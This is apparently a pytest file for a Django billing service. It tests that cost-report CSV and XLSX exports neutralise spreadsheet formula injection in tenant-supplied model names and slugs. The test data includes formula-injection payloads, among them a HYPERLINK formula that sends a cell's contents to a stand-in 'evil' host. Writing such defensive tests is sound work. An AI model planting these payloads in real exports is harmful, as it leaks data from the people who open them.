"""Issue 11, item 5 (reports): tenant-controlled text cannot become a live formula in finance's
CSV or XLSX. A model name `=HYPERLINK(...)` (any key holder can send one; the ledger records what
was asked for) and a project slug `-2-3` land in the ledger; every way finance gets the report
(the API download, the console's link to it, the cost_report command, the platform report)
writes them as inert text: a leading `'`, and in the XLSX a string cell, never a formula. Numbers
stay numbers, a negative correction too."""
from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from billing.models import UsageRecord
from tenants.models import Tenant
from tenants.services import create_project, create_tenant, issue_key
from tests.world import World
from tests.billing.rollup_events import create_usage

FORMULA = '=HYPERLINK("https://evil/?"&C2,"x")'
# OWASP's triggers, each as a model name a key holder could send.
MODELS = [FORMULA, "+1+1", "@SUM(A1:A9)", "-2-3", "\tcmd", "\rcmd"]
MONTH = "2026-11"


def _record(tenant: Tenant, rid: str, model: str, project: Any, key: Any, **extra: Any) -> None:
    moment = datetime(2026, 11, 17, 12, tzinfo=UTC)
    create_usage(
        request_id=rid, tenant=tenant, project=project, api_key=key, model=model,
        served_model=model, input_tokens=10, output_tokens=5, cost_micros=extra.pop("cost", 75),
        status=extra.pop("status", "settled"), started_at=moment, ended_at=moment, **extra)


@pytest.fixture
def poisoned(world: World) -> World:
    project = create_project(world.acme, "-2-3", actor="test")  # a slug is tenant-entered too
    key = issue_key(project, actor="test", name=FORMULA).api_key
    for i, model in enumerate(MODELS):
        _record(world.acme, f"r{i}", model, project, key)
    # A swept row a late settle corrected downwards: its correction is a negative number.
    _record(world.acme, "swept", "gpt-4o", project, key, status="swept", cost=100,
            swept_cost_micros=300, corrected_at=datetime(2026, 11, 17, 13, tzinfo=UTC))
    return world


def _inert(text: str) -> str:
    return "'" + text


def _check_csv(data: bytes) -> None:
    rows = list(csv.reader(io.StringIO(data.decode(), newline="")))
    header = rows[0]
    cells = {cell for row in rows[1:] for cell in row}
    for model in MODELS:
        assert _inert(model) in cells, model
        assert model not in cells, model
    assert _inert("-2-3") in [row[header.index("project")] for row in rows[1:-1]]
    # Numbers are not text: written as they are, the negative correction included.
    swept = next(row for row in rows if row[header.index("model")] == "gpt-4o")
    assert swept[header.index("correction_usd")] == "-0.000200"
    assert swept[header.index("cost_usd")] == "0.000100"


def _check_xlsx(data: bytes) -> None:
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell"
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for model in MODELS:
        # XML reads a carriage return in text back as a line feed: the same inert cell.
        cell = texts[_inert(model).replace("\r", "\n")]
        assert cell.data_type == "s" and cell.value.startswith("'"), model
        assert model not in texts, model
    header = [c.value for c in sheet[1]]
    swept = next(row for row in sheet.iter_rows(min_row=2)
                 if row[header.index("model")].value == "gpt-4o")
    correction = swept[header.index("correction_usd")]
    assert correction.data_type == "n" and correction.value == pytest.approx(-0.0002)


def test_api_downloads_are_inert(poisoned: World) -> None:
    base = f"/api/tenants/{poisoned.acme.public_id}/reports/{MONTH}"
    owner = poisoned.client(poisoned.owner)
    csv_response = owner.get(f"{base}.csv")
    xlsx_response = owner.get(f"{base}.xlsx")
    assert csv_response.status_code == xlsx_response.status_code == 200
    _check_csv(csv_response.content)
    _check_xlsx(xlsx_response.content)


def test_the_consoles_download_links_give_inert_files(poisoned: World) -> None:
    client = poisoned.client(poisoned.owner)
    page = client.get(reverse("console-reports", args=[poisoned.acme.public_id]),
                      {"month": MONTH}).content.decode()
    links = dict(re.findall(r'href="([^"]+\.(csv|xlsx))"', page))
    by_format = {fmt: url for url, fmt in links.items()}
    assert set(by_format) == {"csv", "xlsx"}
    _check_csv(client.get(by_format["csv"]).content)
    _check_xlsx(client.get(by_format["xlsx"]).content)


def test_the_cost_report_command_writes_inert_files(poisoned: World, tmp_path: Path) -> None:
    out = io.StringIO()
    call_command("cost_report", MONTH, "--tenant", "acme", stdout=out)
    _check_csv(out.getvalue().encode())
    target = tmp_path / "acme.xlsx"
    call_command("cost_report", MONTH, "--tenant", "acme", "--format", "xlsx", "--out",
                 str(target), stdout=io.StringIO())
    _check_xlsx(target.read_bytes())


@pytest.mark.django_db
def test_the_platform_report_is_inert_too(tmp_path: Path) -> None:
    tenant = create_tenant("-1-1", plan_name="free", actor="test")  # a slug can start with '-'
    _record(tenant, "p1", "gpt-4o", None, None)
    out = io.StringIO()
    call_command("cost_report", MONTH, "--all", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1][0] == "'-1-1" and rows[1][2] == "1"
    target = tmp_path / "all.xlsx"
    call_command("cost_report", MONTH, "--all", "--format", "xlsx", "--out", str(target),
                 stdout=io.StringIO())
    cell = load_workbook(target).active["A2"]
    assert (cell.value, cell.data_type) == ("'-1-1", "s")
